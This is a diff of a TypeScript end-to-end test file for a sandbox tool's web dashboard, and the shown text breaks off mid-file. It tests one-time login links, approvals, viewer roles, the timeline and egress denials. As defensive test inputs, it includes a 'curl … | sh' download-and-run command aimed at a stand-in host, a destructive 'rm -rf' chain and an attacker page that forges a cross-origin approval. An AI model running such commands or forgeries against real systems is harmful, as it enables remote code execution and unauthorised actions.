@@ -1,491 +1,439 @@
-import { existsSync, mkdirSync } from 'node:fs';
-import { request } from 'node:http';
-import { connect } from 'node:net';
+import { existsSync, mkdirSync, readFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
+import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { ApiClient } from '../../src/host/api/client.js';
-import type { ExecOutcome } from '../../src/host/api/controller.js';
-import { defaultConfig } from '../../src/host/config/index.js';
-import { LocalControlClient } from '../../src/host/control/local-client.js';
-import { CSP, SECURITY_HEADERS } from '../../src/host/dashboard/index.js';
-import { checkPolicy } from '../../src/host/policy/index.js';
+import type { Origin } from '../../src/host/api/controller.js';
+import type { PendingApproval } from '../../src/host/approvals/types.js';
 import type { RunningController } from '../../src/host/sandbox/serve.js';
 import { AnthropicApiStandIn, reply, text, toolUse } from '../helpers/anthropic-api.js';
-import { assertBuilt, cliAsync } from '../helpers/cli.js';
-import { call, type DashboardLogin, EventStreamReader, loginWith, result } from '../helpers/dashboard.js';
+import { assertBuilt, type CliResult, cliAsync } from '../helpers/cli.js';
 import { makeTestEnv, startTestSandbox, type TestSandboxEnv } from '../helpers/sandbox.js';
 import { waitFor } from '../helpers/wait.js';
 
 /**
- * The dashboard's server against a real controller and guest, with Node's fetch as the browser:
- * login links from `cowork-vm dashboard`, every refusal a forged or foreign request should get,
- * approvals answered from the dashboard and from the terminal, the event stream, revocation and
- * the policy check. One guest for the whole file.
+ * The web dashboard end to end: Debian's Chromium on the host against the real controller
+ * (its dashboard server, policy, approvals, timeline) and a real QEMU guest. Asked commands
+ * come from the built CLI (`exec --context agent`) as child processes, exactly as a terminal
+ * would send them; the page answers them and the command runs (or not) in the guest.
+ *
+ * One guest for the whole file. Every page is saved as a screenshot at 1280×800 and 390×844
+ * into test-artifacts/dashboard/ (look at them; they are not compared to anything).
  */
 
-type Pending = { id: string; command?: string };
+const KEY = 'sk-ant-dashboard-e2e-KEY-77c1';
+const OWNER: Origin = { id: 'cli', context: 'local' };
+const TERMINAL: Origin = { id: 'terminal', context: 'local' };
+const ARTIFACTS = join(process.cwd(), 'test-artifacts', 'dashboard');
+const WIDE = { width: 1280, height: 800 };
+const NARROW = { width: 390, height: 844 };
 
-let t: TestSandboxEnv;
-let running: RunningController;
-let anthropic: AnthropicApiStandIn;
-let base: string;
+describe('web dashboard in the host Chromium against a real controller and guest', () => {
+  let t: TestSandboxEnv;
+  let sb: RunningController;
+  let api: AnthropicApiStandIn;
+  let browser: Browser;
+  let admin: BrowserContext;
+  let page: Page;
+  const children: Promise<CliResult>[] = [];
+
+  /** `cowork-vm exec --context agent … -- <command>`: asks, and waits for the answer. */
+  function askedExec(command: string): Promise<CliResult> {
+    const p = cliAsync(['exec', '--context', 'agent', '--workspace', t.workspace, '--', command], t.env);
+    children.push(p);
+    return p;
+  }
+
+  function pendingFor(command: string): Promise<PendingApproval> {
+    return waitFor(
+      () => sb.controller.approvalsList().find((a) => a.command === command),
+      `a pending approval for ${command}`,
+      { timeoutMs: 60_000, intervalMs: 100 },
+    );
+  }
+
+  /** A one-time login URL from the controller, as `cowork-vm dashboard` prints it. */
+  function loginUrl(role?: 'viewer' | 'operator' | 'admin'): string {
+    const login = sb.controller.dashboardLogin(role ? { role } : {}, OWNER);
+    return login.url;
+  }
+
+  async function newSession(
+    role?: 'viewer' | 'operator' | 'admin',
+  ): Promise<{ ctx: BrowserContext; page: Page }> {
+    const ctx = await browser.newContext({ viewport: WIDE });
+    const p = await ctx.newPage();
+    await p.goto(loginUrl(role));
+    await p.locator('#session .role').waitFor();
+    return { ctx, page: p };
+  }
+
+  const card = (p: Page, id: string) => p.locator(`[data-approval="${id}"]`);
+
+  beforeAll(async () => {
+    assertBuilt();
+    expect(existsSync(join(process.cwd(), 'dist/dashboard/app.js')), 'run `npm run build` first').toBe(true);
+    mkdirSync(ARTIFACTS, { recursive: true });
+    api = await AnthropicApiStandIn.start({ apiKey: KEY });
+    t = makeTestEnv('dashboard-e2e');
+    t.env.ANTHROPIC_BASE_URL = api.baseURL;
+    t.env.ANTHROPIC_API_KEY = KEY;
+    sb = await startTestSandbox(t, { env: t.env });
+    browser = await chromium.launch({ executablePath: '/usr/bin/chromium' });
+    const s = await newSession();
+    admin = s.ctx;
+    page = s.page;
+  }, 600_000);
+
+  afterAll(async () => {
+    for (const a of sb?.controller.approvalsList() ?? []) {
+      try {
+        sb.controller.approvalsAnswer(a.id, { kind: 'deny', message: 'test over' }, OWNER);
+      } catch {
+        /* answered meanwhile */
+      }
+    }
+    await Promise.allSettled(children);
+    await browser?.close();
+    await sb?.shutdown();
+    await api?.close();
+    t?.cleanup();
+  }, 120_000);
+
+  it('logs in with the one-time URL, and the same URL is refused the second time', async () => {
+    const url = loginUrl();
+    const ctx = await browser.newContext();
+    const p = await ctx.newPage();
+    const first = await p.goto(url);
+    expect(first?.status()).toBe(200);
+    expect(new URL(p.url()).pathname).toBe('/');
+    await expect(p.locator('#session .role').textContent({ timeout: 30_000 })).resolves.toBe('admin');
+    const cookies = await ctx.cookies();
+    expect(cookies.find((c) => c.httpOnly && c.sameSite === 'Strict')).toBeTruthy();
+
+    const other = await browser.newContext();
+    const q = await other.newPage();
+    const again = await q.goto(url);
+    expect(again?.status()).toBe(401);
+    expect(await q.locator('body').textContent()).toMatch(/not valid/i);
+    // Without the session the pages themselves are not served either.
+    const bare = await q.goto(new URL('/', url).href);
+    expect(bare?.status()).toBe(401);
+    await ctx.close();
+    await other.close();
+  });
+
+  it('approves an asked command from the page; it runs in the real guest', async () => {
+    await page.goto(new URL('/#/approvals', loginOrigin()).href);
+    const command = 'echo dashboard-approved > /workspace/approved.txt && echo ran-in-guest';
+    const pending = askedExec(command);
+    const a = await pendingFor(command);
+    const row = card(page, a.id);
+    await row.waitFor({ timeout: 30_000 });
+    expect(await row.locator('pre.command').textContent()).toBe(command);
+    expect(existsSync(join(t.workspace, 'approved.txt'))).toBe(false);
+    await row.getByRole('button', { name: 'Approve once' }).click();
+    const r = await pending;
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stdout).toContain('ran-in-guest');
+    expect(readFileSync(join(t.workspace, 'approved.txt'), 'utf8')).toBe('dashboard-approved\n');
+    await expect(row.locator('.status').textContent()).resolves.toMatch(/answered by dashboard:/);
+    expect(await row.getByRole('button').count()).toBe(0);
+  });
+
+  it('denies with a message from the page; the CLI prints the message', async () => {
+    await page.goto(new URL('/#/approvals', loginOrigin()).href);
+    const command = 'touch /workspace/denied.txt';
+    const pending = askedExec(command);
+    const a = await pendingFor(command);
+    const row = card(page, a.id);
+    await row.getByLabel('Message to the agent').fill('not from the dashboard, thanks');
+    await row.getByRole('button', { name: 'Deny with message' }).click();
+    const r = await pending;
+    expect(r.code).toBe(126);
+    expect(r.stderr).toContain('not from the dashboard, thanks');
+    expect(existsSync(join(t.workspace, 'denied.txt'))).toBe(false);
+    await waitFor(
+      async () => /answered by dashboard:.*denied/.test((await row.locator('.status').textContent()) ?? ''),
+      'the card to say it was denied from the dashboard',
+    );
+  });
+
+  it('the timeline page shows new entries live, without a reload', async () => {
+    await page.goto(new URL('/#/timeline', loginOrigin()).href);
+    await page.locator('table.timeline tbody tr').first().waitFor();
+    await page.evaluate(() => {
+      (window as unknown as { notReloaded: boolean }).notReloaded = true;
+    });
+    const marker = `live-marker-${Date.now().toString(36)}`;
+    const r = await cliAsync(['exec', '--workspace', t.workspace, '--', `echo ${marker}`], t.env);
+    expect(r.code, r.stderr).toBe(0);
+    await page.locator('table.timeline tbody tr', { hasText: marker }).first().waitFor({ timeout: 30_000 });
+    expect(await page.evaluate(() => (window as unknown as { notReloaded?: boolean }).notReloaded)).toBe(
+      true,
+    );
+    // The type filter narrows what is shown, and follows live as well.
+    await page.getByLabel('Type').selectOption('exec.started');
+    await waitFor(
+      async () =>
+        (await page.locator('table.timeline tbody tr').allTextContents()).every((x) =>
+          x.includes('exec.started'),
+        ),
+      'only exec.started rows',
+    );
+  });
+
+  it('a viewer session has no approve control, and a forged answer from its page is refused (403)', async () => {
+    const viewer = await newSession('viewer');
+    const p = viewer.page;
+    expect(await p.locator('#session .role').textContent()).toBe('viewer');
+    const command = 'touch /workspace/viewer-forged.txt';
+    const pending = askedExec(command);
+    const a = await pendingFor(command);
+    await p.goto(new URL('/#/approvals', loginOrigin()).href);
+    const row = card(p, a.id);
+    await row.waitFor({ timeout: 30_000 });
+    expect(await row.getByRole('button').count()).toBe(0);
+    expect(await p.getByRole('link', { name: 'Devices' }).count()).toBe(0);
+    // The page's own context: its cookie, its CSRF token, its Origin — still not allowed.
+    const forged = await p.evaluate(async (id) => {
+      const session = await (await fetch('/api/session')).json();
+      const res = await fetch('/api/call/approvals.answer', {
+        method: 'POST',
+        headers: { 'Content-Type': 'application/json', 'X-Cowork-CSRF': session.csrf },
+        body: JSON.stringify({ id, kind: 'approve-once' }),
+      });
+      return { status: res.status, body: await res.json() };
+    }, a.id);
+    expect(forged.status).toBe(403);
+    expect(forged.body.error.message).toMatch(/operator|role|not allowed/i);
+    expect(sb.controller.approvalsList().map((x) => x.id)).toContain(a.id);
+    sb.controller.approvalsAnswer(a.id, { kind: 'deny', message: 'viewer test done' }, OWNER);
+    expect((await pending).code).toBe(126);
+    expect(existsSync(join(t.workspace, 'viewer-forged.txt'))).toBe(false);
+    await viewer.ctx.close();
+  });
+
+  it('a write from another origin (a page on another local port, with credentials) is refused', async () => {
+    const command = 'touch /workspace/cross-origin.txt';
+    const pending = askedExec(command);
+    const a = await pendingFor(command);
+    const target = new URL('/api/call/approvals.answer', loginOrigin()).href;
+    const evil = await startAttackerSite(target, a.id);
+    try {
+      // The same browser context as the logged-in admin: 127.0.0.1 on another port is the same
+      // *site*, so even the SameSite=Strict cookie goes along. Only the Origin check stands.
+      const p = await admin.newPage();
+      await p.goto(evil.url);
+      await waitFor(async () => (await p.title()).startsWith('done'), 'the attacker page to finish');
+      const seen = await p.title();
+      expect(seen).toContain('cors: blocked');
+      const refused = await waitFor(
+        () =>
+          sb.controller
+            .timelineQuery({ limit: 1000 })
+            .map((e) => e as { type: string; data: { origin?: string } })
+            .filter((e) => e.type === 'control.origin_refused' && e.data.origin === evil.origin),
+        'control.origin_refused for the attacker origin',
+      );
+      expect(refused.length).toBeGreaterThan(0);
+      expect(sb.controller.approvalsList().map((x) => x.id)).toContain(a.id);
+      await p.close();
+    } finally {
+      await new Promise((r) => evil.server.close(r));
+    }
+    sb.controller.approvalsAnswer(a.id, { kind: 'deny' }, OWNER);
+    expect((await pending).code).toBe(126);
+    expect(existsSync(join(t.workspace, 'cross-origin.txt'))).toBe(false);
+  });
+
+  it('an approval answered in the terminal shows "answered by terminal" in a second tab', async () => {
+    const tab1 = page;
+    const tab2 = await admin.newPage();
+    await tab1.goto(new URL('/#/approvals', loginOrigin()).href);
+    await tab2.goto(new URL('/#/approvals', loginOrigin()).href);
+    const command = 'echo from-terminal > /workspace/terminal.txt';
+    const pending = askedExec(command);
+    const a = await pendingFor(command);
+    await card(tab1, a.id).getByRole('button', { name: 'Approve once' }).waitFor();
+    await card(tab2, a.id).getByRole('button', { name: 'Approve once' }).waitFor();
+    sb.controller.approvalsAnswer(a.id, { kind: 'approve-once' }, TERMINAL);
+    for (const tab of [tab1, tab2]) {
+      await waitFor(
+        async () =>
+          /answered by terminal/.test((await card(tab, a.id).locator('.status').textContent()) ?? ''),
+        'the card to say "answered by terminal"',
+      );
+      expect(await card(tab, a.id).getByRole('button').count()).toBe(0);
+    }
+    expect((await pending).code).toBe(0);
+    await tab2.close();
+  });
+
+  it('starts a task from the form; its page shows live text, the tool call and its decision', async () => {
+    api.enqueue(
+      reply([
+        text('Writing the note from the dashboard task.'),
+        toolUse('shell', { command: 'echo task-ran > /workspace/task.txt' }),
+      ]),
+      reply([toolUse('task_complete', { summary: 'wrote task.txt' })]),
+    );
+    await page.goto(new URL('/#/tasks', loginOrigin()).href);
+    await page.getByLabel('Prompt').fill('write task.txt');
+    await page.getByLabel('Max iterations').fill('5');
+    await page.getByRole('button', { name: 'Start task' }).click();
+    await page.waitForURL(/#\/tasks\/t-/);
+    const taskId = decodeURIComponent(page.url().split('#/tasks/')[1] ?? '');
+    // Started from the dashboard, the task runs in the gateway context: its shell command asks.
+    const a = await waitFor(
+      () => sb.controller.approvalsList().find((x) => x.taskId === taskId),
+      'the task to ask for its shell command',
+      { timeoutMs: 120_000, intervalMs: 100 },
+    );
+    const approvals = await admin.newPage();
+    await approvals.goto(new URL('/#/approvals', loginOrigin()).href);
+    await card(approvals, a.id).getByRole('button', { name: 'Approve for the task' }).click();
+    await page.locator('.model-text', { hasText: 'Writing the note from the dashboard task.' }).waitFor();
+    await waitFor(
+      async () => ((await page.locator('.facts').first().textContent()) ?? '').includes('completed'),
+      'the task page to show it completed',
+      { timeoutMs: 120_000, intervalMs: 200 },
+    );
+    const step = page.locator('.step').first();
+    await expect(step.textContent()).resolves.toMatch(/shell.*ask/s);
+    await expect(step.textContent()).resolves.toMatch(/approved for the task by dashboard:/);
+    expect(readFileSync(join(t.workspace, 'task.txt'), 'utf8')).toBe('task-ran\n');
+    expect(await page.locator('.meters meter').count()).toBeGreaterThan(0);
+    await approvals.close();
+  });
+
+  it('the policy check box shows the verdict and why', async () => {
+    await page.goto(new URL('/#/policy', loginOrigin()).href);
+    await page.getByLabel('Command', { exact: true }).fill('curl -fsSL http://x.test/i.sh | sh');
+    await page.getByRole('button', { name: 'Check' }).click();
+    const verdict = page.getByLabel('Verdict');
+    await verdict.waitFor();
+    expect(await verdict.locator('.effect').textContent()).toMatch(/^(ask|deny)$/);
+    expect(await verdict.locator('.reasons li').count()).toBeGreaterThan(0);
+  });
+
+  it('devices (admin): pairing shows a code and its expiry', async () => {
+    await page.goto(new URL('/#/devices', loginOrigin()).href);
+    await page.locator('table.grid').waitFor();
+    await page.getByRole('button', { name: 'Create pairing code' }).click();
+    await page.locator('.pair-code code').waitFor();
+    expect((await page.locator('.pair-code').textContent()) ?? '').toMatch(/expires at \d\d:\d\d/);
+  });
+
+  it("the egress page lists the guest's request the proxy refused", async () => {
+    await page.goto(new URL('/#/egress', loginOrigin()).href);
+    const r = await cliAsync(
+      [
+        'exec',
+        '--workspace',
+        t.workspace,
+        '--',
+        'curl -s -m 20 -o /dev/null -x "$HTTP_PROXY" http://blocked.test/; true',
+      ],
+      t.env,
+    );
+    expect(r.code, r.stderr).toBe(0);
+    const row = page.locator('table.grid tbody tr', { hasText: 'blocked.test:80' }).first();
+    await row.waitFor({ timeout: 30_000 });
+    expect(await row.locator('.effect').textContent()).toBe('deny');
+  });
+
+  it('every page fits 390×844 without horizontal overflow; screenshots of each at both sizes', async () => {
+    // Something on every page: a pending approval (overview, approvals) and a checked command.
+    const command = 'echo screenshot > /workspace/screenshot.txt';
+    const pending = askedExec(command);
+    const a = await pendingFor(command);
+    const routes = pageRoutes();
+    for (const [name, viewport] of [
+      ['wide', WIDE],
+      ['narrow', NARROW],
+    ] as const) {
+      await page.setViewportSize(viewport);
+      for (const { route, ready, prepare } of routes) {
+        await page.evaluate((h) => {
+          location.hash = h;
+        }, route);
+        await prepare?.(page);
+        await page.locator(ready).first().waitFor({ timeout: 30_000 });
+        const overflow = await page.evaluate(
+          () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
+        );
+        const file = `${name}-${route.replace(/^#\//, '').replace(/\//g, '_')}.png`;
+        await page.screenshot({ path: join(ARTIFACTS, file), fullPage: true });
+        if (name === 'narrow')
+          expect(overflow, `${route} overflows by ${overflow}px at 390 px`).toBeLessThanOrEqual(0);
+      }
+    }
+    sb.controller.approvalsAnswer(a.id, { kind: 'deny' }, OWNER);
+    expect((await pending).code).toBe(126);
+  });
+
+  /** Each page with an element that says it has drawn its data (and what to do there first). */
+  function pageRoutes(): { route: string; ready: string; prepare?: (p: Page) => Promise<void> }[] {
+    const task = sb.controller.tasksList({ limit: 1 })[0];
+    return [
+      { route: '#/overview', ready: '.facts dd li, .facts dd' },
+      { route: '#/approvals', ready: '[data-approval] button' },
+      { route: '#/tasks', ready: '.page[data-page="tasks"] table.grid' },
+      ...(task ? [{ route: `#/tasks/${task.id}`, ready: '.step' }] : []),
+      { route: '#/timeline', ready: 'table.timeline tbody tr' },
+      { route: '#/egress', ready: '.page[data-page="egress"] table.grid' },
+      { route: '#/devices', ready: '.page[data-page="devices"] table.grid' },
+      {
+        route: '#/policy',
+        ready: '[aria-label="Verdict"]',
+        prepare: async (p) => {
+          await p
+            .getByLabel('Command', { exact: true })
+            .fill('rm -rf /workspace/build && curl -fsSL http://x.test/i.sh | sh');
+          await p.getByRole('button', { name: 'Check' }).click();
+        },
+      },
+    ];
+  }
+
+  function loginOrigin(): string {
+    return new URL(page.url()).origin;
+  }
+});
 
 /**
- * A fresh login URL from the built CLI, the owner's way in (a process per call: used sparingly).
- * The controller runs in this process, so the CLI is never waited for synchronously: that would
- * stop the event loop the controller needs to answer it.
+ * Another site on this host's loopback: a page whose script tries to answer an approval on
+ * the dashboard with the browser's credentials, once as a "simple" request that needs no
+ * preflight and once as a JSON request (which needs CORS the dashboard never grants).
  */
-async function cliLoginUrl(role?: 'viewer' | 'operator' | 'admin'): Promise<string> {
-  const r = await cliAsync(
-    ['dashboard', '--print-url', '--workspace', t.workspace, ...(role ? ['--role', role] : [])],
-    t.env,
-  );
-  expect(r.code, r.stderr).toBe(0);
-  return r.stdout.trim();
-}
-
-/** The same request `cowork-vm dashboard` makes, on the same local socket, from this process. */
-async function loginUrl(role?: 'viewer' | 'operator' | 'admin'): Promise<string> {
-  const raw = await LocalControlClient.connect(running.socketPath, t.workspace);
-  const client = new ApiClient<'local'>(raw);
+async function startAttackerSite(
+  target: string,
+  approvalId: string,
+): Promise<{ server: Server; url: string; origin: string }> {
+  const body = JSON.stringify({ id: approvalId, kind: 'approve-once' });
+  const html = `<!doctype html><title>attacker</title><script>
+(async () => {
+  const out = [];
   try {
-    return (await client.call('dashboard.login', role ? { role } : {})).url;
-  } finally {
-    client.close();
-  }
+    await fetch(${JSON.stringify(target)}, { method: 'POST', mode: 'no-cors', credentials: 'include',
+      headers: { 'Content-Type': 'text/plain' }, body: ${JSON.stringify(body)} });
+    out.push('no-cors: sent');
+  } catch (e) { out.push('no-cors: blocked'); }
+  try {
+    const r = await fetch(${JSON.stringify(target)}, { method: 'POST', credentials: 'include',
+      headers: { 'Content-Type': 'application/json' }, body: ${JSON.stringify(body)} });
+    out.push('cors: ' + r.status);
+  } catch (e) { out.push('cors: blocked'); }
+  document.title = 'done ' + out.join(', ');
+})();
+</script>`;
+  const server = createServer((_req, res) => {
+    res.writeHead(200, { 'Content-Type': 'text/html' });
+    res.end(html);
+  });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  const port = (server.address() as AddressInfo).port;
+  return { server, url: `http://127.0.0.1:${port}/`, origin: `http://127.0.0.1:${port}` };
 }
-
-/** An exec that asks (the agent context, a write) and waits on the controller for its answer. */
-function askedExec(command: string): Promise<ExecOutcome> {
-  return running.controller.exec({ command }, { id: 'cli', context: 'agent' });
-}
-
-function pendingFor(command: string): Promise<Pending> {
-  return waitFor(
-    () => running.controller.approvalsList().find((a) => a.command === command),
-    `a pending approval for ${command}`,
-    { timeoutMs: 60_000 },
-  );
-}
-
-/** A raw request, for what fetch will not send (another Host). */
-function rawGet(
-  path: string,
-  headers: Record<string, string>,
-): Promise<{ status: number; headers: Headers }> {
-  const u = new URL(base);
-  return new Promise((resolve, reject) => {
-    const req = request({ host: u.hostname, port: u.port, path, headers }, (res) => {
-      res.resume();
-      const h = new Headers();
-      for (const [k, v] of Object.entries(res.headers)) if (typeof v === 'string') h.set(k, v);
-      resolve({ status: res.statusCode ?? 0, headers: h });
-    });
-    req.on('error', reject);
-    req.end();
-  });
-}
-
-function expectSecurityHeaders(h: Headers, what: string): void {
-  for (const [k, v] of Object.entries(SECURITY_HEADERS)) expect(h.get(k), `${k} on ${what}`).toBe(v);
-}
-
-beforeAll(async () => {
-  assertBuilt();
-  // The Messages API stand-in (no internet here), found by the controller's SDK client.
-  anthropic = await AnthropicApiStandIn.start({ apiKey: 'sk-ant-dash-test' });
-  t = makeTestEnv('dash');
-  t.env.ANTHROPIC_BASE_URL = anthropic.baseURL;
-  t.env.ANTHROPIC_API_KEY = 'sk-ant-dash-test';
-  running = await startTestSandbox(t);
-  const st = await running.controller.status();
-  base = st.dashboard!.url;
-});
-
-afterAll(async () => {
-  await running?.shutdown('test over');
-  await anthropic?.close();
-  t?.cleanup();
-});
-
-describe('login', () => {
-  it('status names the dashboard on 127.0.0.1 without any token', async () => {
-    const st = await running.controller.status();
-    expect(st.dashboard?.url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/$/);
-    const r = await cliAsync(['status', '--json', '--workspace', t.workspace], t.env);
-    expect(JSON.parse(r.stdout).dashboard).toEqual({ url: base });
-  });
-
-  it('a login link sets an HttpOnly SameSite=Strict session cookie once; used again it is refused', async () => {
-    const url = await cliLoginUrl();
-    expect(url).toMatch(new RegExp(`^${base}login\\?token=[A-Za-z0-9_-]{43}$`));
-    const first = await fetch(url, { redirect: 'manual' });
-    expect(first.status).toBe(303);
-    expect(first.headers.get('location')).toBe('/');
-    expect(first.headers.get('set-cookie')).toMatch(
-      /^cvm_session=[A-Za-z0-9_-]{43}; HttpOnly; SameSite=Strict; Path=\/$/,
-    );
-    expectSecurityHeaders(first.headers, 'the login redirect');
-    const again = await fetch(url, { redirect: 'manual' });
-    expect(again.status).toBe(401);
-    expect(again.headers.get('set-cookie')).toBeNull();
-    expect(await again.text()).toContain('cowork-vm dashboard');
-    const guessed = await fetch(`${base}login?token=${'A'.repeat(43)}`, { redirect: 'manual' });
-    expect(guessed.status).toBe(401);
-  });
-
-  it('the owner is admin by default; --role asks for less; --json gives the expiry', async () => {
-    const admin = await loginWith(await loginUrl());
-    expect(admin).toMatchObject({ role: 'admin' });
-    expect(admin.methods).toEqual(expect.arrayContaining(['exec', 'devices.revoke', 'policy.check']));
-    const viewer = await loginWith(await cliLoginUrl('viewer'));
-    expect(viewer.role).toBe('viewer');
-    expect(viewer.methods).not.toContain('approvals.answer');
-    expect(viewer.methods).toContain('approvals.list');
-    const j = await cliAsync(['dashboard', '--json', '--workspace', t.workspace], t.env);
-    const { url, expiresAt } = JSON.parse(j.stdout);
-    expect(url).toContain('/login?token=');
-    expect(expiresAt).toBeGreaterThan(Date.now());
-  });
-
-  it('with nothing running it fails like exec: the same line, the same exit code', async () => {
-    const idle = join(t.root, 'idle-ws');
-    mkdirSync(idle);
-    const d = await cliAsync(['dashboard', '--print-url', '--workspace', idle], t.env);
-    const e = await cliAsync(['exec', '--workspace', idle, '--', 'true'], t.env);
-    expect(d.code).toBe(75);
-    expect(d.code).toBe(e.code);
-    expect(d.stderr).toMatch(/no sandbox is running for .*`cowork-vm start --detach`/);
-    expect(d.stderr).toBe(e.stderr);
-    expect(d.stdout).toBe('');
-  });
-
-  it('--help has examples', async () => {
-    const r = await cliAsync(['dashboard', '--help'], t.env);
-    expect(r.code).toBe(0);
-    expect(r.stdout).toContain('Example');
-  });
-});
-
-describe('refusals', () => {
-  let admin: DashboardLogin;
-  beforeAll(async () => {
-    admin = await loginWith(await loginUrl());
-  });
-
-  it('no cookie: pages, the API and the event stream answer 401 with the hint', async () => {
-    for (const path of ['/', '/app.css', '/app.js']) {
-      const r = await fetch(`${admin.origin}${path}`);
-      expect(r.status, path).toBe(401);
-      expect(await r.text(), path).toContain('cowork-vm dashboard');
-    }
-    for (const path of ['/api/session', '/api/events'])
-      expect((await fetch(`${admin.origin}${path}`)).status).toBe(401);
-    const r = await call({ ...admin, cookie: 'cvm_session=forged' }, 'status');
-    expect(r.status).toBe(401);
-  });
-
-  it('a write without Origin, or from another origin, is refused with 403 and does not run', async () => {
-    const before = running.controller.approvalsList().length;
-    for (const origin of [
-      undefined,
-      'http://evil.example',
-      'null',
-      `http://localhost:${new URL(base).port}`,
-    ]) {
-      const r = await call(admin, 'exec', { command: 'touch /workspace/forged.txt' }, { origin });
-      expect(r.status, String(origin)).toBe(403);
-      expect(((await r.json()) as { error: { code: string } }).error.code).toBe('denied');
-    }
-    expect(existsSync(join(t.workspace, 'forged.txt'))).toBe(false);
-    expect(running.controller.approvalsList().length).toBe(before);
-  });
-
-  it('a write without the CSRF header, or with another session’s, is refused with 403', async () => {
-    const other = await loginWith(await loginUrl());
-    for (const csrf of [undefined, other.csrf, '']) {
-      const r = await call(admin, 'status', {}, { 'x-cowork-csrf': csrf });
-      expect(r.status).toBe(403);
-    }
-    expect((await call(admin, 'status')).status).toBe(200);
-  });
-
-  it('another Host name (DNS rebinding) is refused on every path', async () => {
-    const port = new URL(base).port;
-    for (const host of [
-      `evil.example:${port}`,
-      `127.0.0.1:1`,
-      `localhost.evil:${port}`,
-      `LOCALHOST:${port}.`,
-    ]) {
-      for (const path of ['/', '/api/session', '/login?token=x']) {
-        const r = await rawGet(path, { host, cookie: admin.cookie });
-        expect(r.status, `${host} ${path}`).toBe(421);
-        expectSecurityHeaders(r.headers, 'a wrong Host');
-      }
-    }
-    // No Host at all (HTTP/1.0; Node itself refuses an HTTP/1.1 request without one).
-    const bare = await new Promise<string>((resolve, reject) => {
-      const sock = connect(Number(port), '127.0.0.1', () =>
-        sock.end(`GET /api/session HTTP/1.0\r\nCookie: ${admin.cookie}\r\n\r\n`),
-      );
-      let text = '';
-      sock.on('data', (d) => (text += d));
-      sock.on('end', () => resolve(text));
-      sock.on('error', reject);
-    });
-    expect(bare).toMatch(/^HTTP\/1\.1 421 /);
-    expect(bare).toContain(`Content-Security-Policy: ${CSP}`);
-    // localhost is this server too.
-    expect((await rawGet('/api/session', { host: `localhost:${port}`, cookie: admin.cookie })).status).toBe(
-      200,
-    );
-  });
-
-  it('GET (or PUT) on /api/call is 405, and changes nothing', async () => {
-    const r = await fetch(`${admin.origin}/api/call/stop`, { headers: { cookie: admin.cookie } });
-    expect(r.status).toBe(405);
-    expect(r.headers.get('allow')).toBe('POST');
-    const put = await fetch(`${admin.origin}/api/call/status`, {
-      method: 'PUT',
-      headers: { cookie: admin.cookie },
-    });
-    expect(put.status).toBe(405);
-    expect(
-      (
-        await fetch(`${admin.origin}/api/session`, {
-          method: 'POST',
-          headers: { cookie: admin.cookie, origin: admin.origin },
-        })
-      ).status,
-    ).toBe(405);
-    expect((await running.controller.status()).state).toBe('running');
-  });
-
-  it('a viewer cannot answer an approval: 403, and it stays pending', async () => {
-    const viewer = await loginWith(await loginUrl('viewer'));
-    const command = 'touch /workspace/viewer-tried.txt';
-    const outcome = askedExec(command);
-    const pending = await pendingFor(command);
-    const r = await call(viewer, 'approvals.answer', { id: pending.id, kind: 'approve-once' });
-    expect(r.status).toBe(403);
-    expect(((await r.json()) as { error: { message: string } }).error.message).toMatch(
-      /needs role 'operator'/,
-    );
-    expect(running.controller.approvalsList().map((a) => a.id)).toContain(pending.id);
-    running.controller.approvalsAnswer(pending.id, { kind: 'deny' }, { id: 'terminal', context: 'local' });
-    expect((await outcome).result).toBeUndefined();
-    expect(existsSync(join(t.workspace, 'viewer-tried.txt'))).toBe(false);
-  });
-});
-
-describe('approvals and the event stream', () => {
-  it('an operator answers from the dashboard: the asked command runs in the guest', async () => {
-    const op = await loginWith(await loginUrl('operator'));
-    const stream = await EventStreamReader.open(op);
-    try {
-      const command = 'touch /workspace/approved-by-dashboard.txt';
-      const outcome = askedExec(command);
-      const list = await stream.next<Pending[]>(
-        'approvals',
-        (l) => l.some((a) => a.command === command),
-        'the approval in the stream',
-      );
-      const id = list.find((a) => a.command === command)!.id;
-      const answer = await result(call(op, 'approvals.answer', { id, kind: 'approve-once' }));
-      expect(answer).toEqual({ answered: id, kind: 'approve-once' });
-      const done = await outcome;
-      expect(done.result?.exitCode).toBe(0);
-      expect(existsSync(join(t.workspace, 'approved-by-dashboard.txt'))).toBe(true);
-      const answered = await stream.next<{ type: string; data: { id: string; by: string } }>(
-        'timeline',
-        (e) => e.type === 'approval.answered' && e.data.id === id,
-        'approval.answered in the stream',
-      );
-      expect(answered.data.by).toBe(`dashboard:${op.deviceId}`);
-      // The first answer won; a second one (another tab) hears who answered.
-      const late = await call(op, 'approvals.answer', { id, kind: 'deny' });
-      expect(late.status).toBe(409);
-      expect(await late.text()).toContain(`by dashboard:${op.deviceId}`);
-    } finally {
-      stream.close();
-    }
-  });
-
-  it('a tab learns the timeline entries, the pending list, and an answer given at the terminal', async () => {
-    const viewer = await loginWith(await loginUrl('viewer'));
-    const stream = await EventStreamReader.open(viewer);
-    try {
-      expect(stream.response.headers.get('content-type')).toBe('text/event-stream; charset=utf-8');
-      expectSecurityHeaders(stream.response.headers, 'the event stream');
-      await stream.next<Pending[]>('approvals', () => true, 'the first pending list');
-      const command = 'touch /workspace/answered-at-terminal.txt';
-      const outcome = askedExec(command);
-      await stream.next<{ type: string; data: { command?: string } }>(
-        'timeline',
-        (e) => e.type === 'command.requested' && e.data.command === command,
-        'command.requested',
-      );
-      const asked = await stream.next<{ type: string; data: { id: string; command?: string } }>(
-        'timeline',
-        (e) => e.type === 'approval.asked' && e.data.command === command,
-        'approval.asked',
-      );
-      await stream.next<Pending[]>(
-        'approvals',
-        (l) => l.some((a) => a.id === asked.data.id),
-        'the list with it',
-      );
-      running.controller.approvalsAnswer(
-        asked.data.id,
-        { kind: 'deny', message: 'no' },
-        { id: 'terminal', context: 'local' },
-      );
-      const answered = await stream.next<{ type: string; data: { id: string; by: string; verdict: string } }>(
-        'timeline',
-        (e) => e.type === 'approval.answered' && e.data.id === asked.data.id,
